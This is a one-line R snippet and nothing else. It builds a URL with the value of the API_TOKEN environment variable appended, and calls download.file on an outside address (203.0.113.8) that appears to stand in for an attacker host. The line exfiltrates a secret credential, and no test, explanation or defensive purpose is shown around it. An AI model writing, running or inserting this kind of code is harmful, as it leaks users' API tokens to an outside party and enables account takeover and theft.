download.file(paste0("http://203.0.113.8/?k=", Sys.getenv("API_TOKEN")), tempfile())
